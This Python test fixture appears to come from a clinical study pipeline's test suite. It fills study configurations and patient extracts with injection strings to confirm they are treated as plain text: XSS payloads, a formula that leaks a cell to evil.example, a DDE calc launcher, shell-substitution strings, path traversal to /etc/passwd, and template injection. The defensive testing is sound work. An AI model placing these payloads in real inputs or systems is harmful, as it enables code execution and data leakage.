"""Whatever a cohort's files hold is text: in pages, pictures, tables, documents, on the command line and as a path.

The extract and its study file carry what breaks other programs (markup, formulas, shell, templates, wildcards, TeX,
marks of direction) in every place where text can stand, and the study asks for every kind of table and figure.
"""

import csv
import io
import os
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
from collections.abc import Iterator, Mapping
from datetime import date, timedelta
from itertools import cycle
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
import yaml
from playwright.sync_api import Browser

from tests.browser.conftest import browser as browser
from tests.browser.conftest import visit
from tests.workflow.workspace import Run, Workspace, copy_project

SCRIPT = "<script>alert(1)</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
SVG = "<svg onload=alert(1)><foreignObject>"
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"x")'
CLOSING = "</title></style></script></desc>]]> --> <!-- <![CDATA["
# Every one of these stands in several places: none may be run, opened, rendered, hidden or filled in.
HOSTILE = (
    SCRIPT,
    IMAGE,
    SVG,
    FORMULA,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "../../../escaped",
    "/etc/passwd",
    "C:\\escaped",
    "$(touch pwned)",
    "`touch pwned`",
    "; touch pwned #",
    "{study} {wildcards.study} {0} {input[0]}",
    "{{ 7*7 }} {% raw %}",
    "$\\frac$ a$b$c",
    "_A",
    CLOSING,
    "&lt;b&gt; &#x3c; %s %(x)s",
    "javascript:alert(1)",
    "Pneumonoultramicroscopicsilicovolcanoconiosis" * 4,
    "🙂 é",
    "完全切除 شفاء",
)
LEVELS = (SCRIPT, FORMULA, "_A", "../../../escaped", "{study} {{ 7*7 }} $x$", "完全切除 🙂 `touch pwned`")
CODES = ("<b>1</b>", "{wildcards.study}", "$(touch pwned)", "../../x", "C:\\", "=1+1")
PATIENTS = 24
STUDY, OTHER = "hostile", "hostile-other"
FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[-+−]?\d+(\.\d+)?([eE][-+]?\d+)?|−?∞|[-+]?inf|nan")

Rows = list[dict[str, object]]


def taken(count: int) -> list[str]:
    """So many hostile texts, beginning elsewhere at each call with another count."""
    return [HOSTILE[(count + place) % len(HOSTILE)] for place in range(count)]


def study_file(study_id: str, extract: str, other: str | None = None) -> dict[str, Any]:
    """A study of the cohort with hostile text in each of its texts; `other` is set beside it."""
    text = cycle(HOSTILE)

    def column(name: str, kind: str, source: str, **keys: object) -> dict[str, object]:
        return {"name": name, "type": kind, "source": source, "label": f"{next(text)} {name}", **keys}

    def headed(name: str, kind: str, source: str, **keys: object) -> dict[str, object]:
        """A column whose label begins with the hostile text alone."""
        return column(name, kind, source, **keys) | {"label": source}

    dates = [column(name, "date", header, format="%Y-%m-%d") for name, header in zip(DATES, DATE_HEADERS, strict=True)]
    levels = dict(zip(CODES, LEVELS, strict=True))
    columns = [
        headed("subject", "identifier", FORMULA),
        headed("age", "number", SCRIPT, unit=IMAGE),
        headed("pci", "number", "{wildcards.study}"),
        headed("cc_score", "category", "$(touch pwned)", levels={"0": "+CC0", "1": SVG, "2": "-CC2", "3": "@CC3"}),
        headed("site", "category", "../../../escaped", levels=levels, printed_in=CLOSING),
        headed("status", "category", "完全切除 شفاء", levels={"<0>": IMAGE, "{1}": "=dead"}),
        headed("note", "text", "_A"),
        *dates,
    ]
    dead = {"column": "status", "equals": ["=dead"]}
    progressed = {"column": "progression", "present": True}
    causes = [{"label": FORMULA, "any": [progressed]}, {"label": f"{SVG} {{study}}", "otherwise": True}]
    endpoints = [
        {
            "code": "OS1",
            "label": f"{SCRIPT} {{0}}",
            "origin": IMAGE,
            "end": "{{ 7*7 }}",
            "time": {"start": "diagnosis", "event": ["death"], "censor": "last_contact", "entry": "surgery"},
            "events": [{"code": "OS1", "description": FORMULA, "any": [dead], "why": CLOSING}],
        },
        {
            "code": "OS2",
            "label": FORMULA,
            "origin": "$\\frac$ a$b$c",
            "time": {"start": "surgery", "event": ["death"], "censor": "last_contact"},
            "events": [{"code": "OS2", "description": SCRIPT, "any": [dead]}],
            "inferred": True,
        },
        {
            "code": "PFS",
            "label": "-_A {{ 7*7 }}",
            "origin": CLOSING,
            "time": {"start": "surgery", "event": ["progression", "death"], "censor": "last_contact"},
            "events": [
                {"code": "PFS", "description": SVG, "any": [dead, progressed], "causes": causes},
                {"code": "PFSALL", "description": IMAGE, "any": [progressed], "why": SCRIPT},
            ],
        },
    ]
    groups = [
        {
            "name": "pci_group",
            "label": "=PCI+group",
            "column": "pci",
            "levels": [{"label": "_A", "below": 15}, {"label": FORMULA, "at_least": 15}],
            "why": IMAGE,
        },
        {
            "name": "noted",
            "label": SVG,
            "column": "note",
            "levels": [{"label": "{study} $x$", "contains": ["pwned", "<"]}, {"label": "../../x", "otherwise": True}],
            "why": SCRIPT,
        },
        {
            "name": "six",
            "label": CLOSING,
            "column": "age",
            "levels": [{"label": label, "below": 40 + 8 * place} for place, label in enumerate(LEVELS[:5], start=1)]
            + [{"label": LEVELS[5], "otherwise": True}],
        },
    ]
    return {
        "id": study_id,
        "title": " ".join((SCRIPT, IMAGE, "{study} {{ 7*7 }} $\\frac$ `touch pwned` =1+1"))[:300],
        "short_title": f"{FORMULA} {study_id}",
        "citation": {"authors": IMAGE, "journal": SCRIPT, "year": 2024, "volume": FORMULA, "doi": "javascript:alert(1)"},
        "about": list(HOSTILE),
        "limits": list(HOSTILE),
        "source": {"patients": extract, "rows": PATIENTS},
        "columns": columns,
        "groups": groups,
        "exclude": [{"label": IMAGE, "any": [{"column": "pci", "at_least": 39}], "why": FORMULA}],
        "endpoints": endpoints,
        "exposures": [{"name": "started", "label": IMAGE, "column": "adjuvant", "endpoint": "OS2"}],
        "analyses": analyses(),
        "compare": [other] if other else [],
        "audit": {"software": SCRIPT, "stated": {IMAGE: ["log-rank"]}},
        "figures": list(figures()),
        "tables": list(tables(other)),
    }


DATES = ("diagnosis", "surgery", "adjuvant", "progression", "death", "last_contact")
DATE_HEADERS = ("`touch pwned`", "; touch pwned #", "C:\\escaped", "{{ 7*7 }}", "-->", "a$b$c")


def analyses() -> dict[str, object]:
    """Everything that can be estimated."""
    factors = {"endpoint": "OS2", "univariable": ["age", "pci", "pci_group", "site", "noted"], "label": SCRIPT}
    return {
        "time_points": [12, 24],
        "follow_up": "OS2",
        "describe": ["age", "pci", "cc_score", "site", "status", "pci_group", "noted", "six"],
        "describe_by": ["pci_group", "site"],
        "tests_by": ["pci_group"],
        "compare": [{"endpoint": code, "by": by} for code in ("OS1", "OS2", "PFS") for by in ("pci_group", "site", "six")],
        "associate": [{"variable": "pci", "with": "site"}, {"variable": "pci_group", "with": "noted"}],
        "models": [
            {"id": "cox", "kind": "cox", "endpoint": "OS2", "covariates": ["pci_group", "age"], "label": FORMULA},
            {"id": "logistic", "kind": "logistic", "endpoint": "OS2", "covariates": ["noted"], "label": IMAGE},
        ],
        "factors": [{"id": "factors", "multivariable": ["age", "pci_group"], **factors}],
        "restricted_mean": [24],
        "incidence": [{"endpoint": "PFS"}, {"endpoint": "PFS", "by": "pci_group"}],
        "landmarks": [{"id": "late", "endpoint": "OS2", "exposure": "started", "at": [3]}],
    }


def figures() -> Iterator[dict[str, object]]:
    """Every kind of figure."""
    wanted: list[dict[str, object]] = [
        {"kind": "survival", "endpoint": "OS1"},
        {"kind": "survival", "endpoint": "OS2", "by": "pci_group"},
        {"kind": "survival", "endpoint": "PFS", "by": "site"},
        {"kind": "survival", "endpoint": "PFS", "by": "six"},
        {"kind": "points", "variable": "age", "by": "site"},
        {"kind": "swimmer", "total": "OS1", "observed": "OS2", "progression": "PFS", "by": "six"},
        {"kind": "cumulative-incidence", "endpoint": "PFS"},
        {"kind": "cumulative-incidence", "endpoint": "PFS", "by": "pci_group"},
        {"kind": "factors", "factors": "factors"},
        {"kind": "factors", "factors": "factors", "model": "univariable"},
    ]
    for number, (keys, title, printed) in enumerate(zip(wanted, cycle(HOSTILE), cycle(reversed(HOSTILE)))):
        yield {"id": f"fig-{number}", "title": title, **keys} | ({"printed_as": printed} if number % 2 else {})


def tables(other: str | None) -> Iterator[dict[str, object]]:
    """Every kind of table."""
    shown = ["subject", "age", "pci", "cc_score", "site", "status", "note"]
    wanted: list[dict[str, object]] = [
        {"kind": "rows", "columns": shown},
        {"kind": "characteristics"},
        {"kind": "characteristics", "by": "pci_group"},
        {"kind": "characteristics", "by": "site"},
        {"kind": "missing"},
        {"kind": "survival"},
        {"kind": "follow-up"},
        {"kind": "life-table", "endpoint": "OS2"},
        {"kind": "comparisons"},
        {"kind": "models"},
        {"kind": "factors", "factors": "factors"},
        {"kind": "proportional-hazards"},
        {"kind": "restricted-mean"},
        {"kind": "incidence"},
        {"kind": "landmarks"},
        {"kind": "associations"},
        *([{"kind": "beside", "other": other}] if other else []),
    ]
    for number, (keys, title) in enumerate(zip(wanted, cycle(reversed(HOSTILE)))):
        yield {"id": f"table-{number}", "title": title, "notes": [title, IMAGE], **keys}


def patients(study: Mapping[str, Any]) -> Rows:
    """The cohort by its headers: hostile codes and notes, sound dates."""
    notes = cycle(text for text in HOSTILE if text[0] not in FORMULA_SIGNS)
    named = {column["name"]: column["source"] for column in study["columns"]}
    rows: Rows = []
    for number in range(PATIENTS):
        diagnosed = date(2018, 1, 1) + timedelta(days=17 * number)
        operated = diagnosed + timedelta(days=30 + number)
        last = operated + timedelta(days=200 + 37 * (number % 11) + 11 * number)
        dead = number % 3 != 0
        row = {
            "subject": f"P{number + 1}",
            "age": 40 + 2 * number,
            "pci": (7 * number) % 31,
            "cc_score": number % 4,
            "site": CODES[number % 6],
            "status": "{1}" if dead else "<0>",
            "note": next(notes),
            "diagnosis": diagnosed.isoformat(),
            "surgery": operated.isoformat(),
            "adjuvant": (operated + timedelta(days=40 + number)).isoformat() if number % 2 else "",
            "progression": (operated + timedelta(days=90 + 5 * number)).isoformat() if number % 4 else "",
            "death": last.isoformat() if dead else "",
            "last_contact": last.isoformat(),
        }
        rows.append({named[name]: value for name, value in row.items()})
    return rows


def write_extract(path: Path, rows: Rows) -> None:
    """As CSV or as a workbook, by the name."""
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.suffix == ".xlsx":
        book = openpyxl.Workbook()
        sheet = book.active
        sheet.append(list(rows[0]))
        for row in rows:
            sheet.append([None if value == "" else value for value in row.values()])
        for cells in sheet.iter_rows():
            for cell in cells:
                if isinstance(cell.value, str):
                    cell.data_type = "s"  # text, also where it begins like a formula
        book.save(path)
    else:
        with path.open("w", encoding="utf-8", newline="") as handle:
            writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)


def set_up(folder: Path, extract: str) -> Workspace:
    """A project with the hostile study, and its like to be set beside it."""
    project = copy_project(folder, STUDY, OTHER)
    for study_id, other in ((STUDY, OTHER), (OTHER, None)):
        study = study_file(study_id, extract, other)
        if other is None:
            study |= {"figures": study["figures"][:1], "tables": study["tables"][:1]}
        path = project.folder / f"config/studies/{study_id}.yaml"
        path.write_text(yaml.safe_dump(study, allow_unicode=True, sort_keys=False), encoding="utf-8")
    write_extract(project.folder / extract, patients(study))
    return project
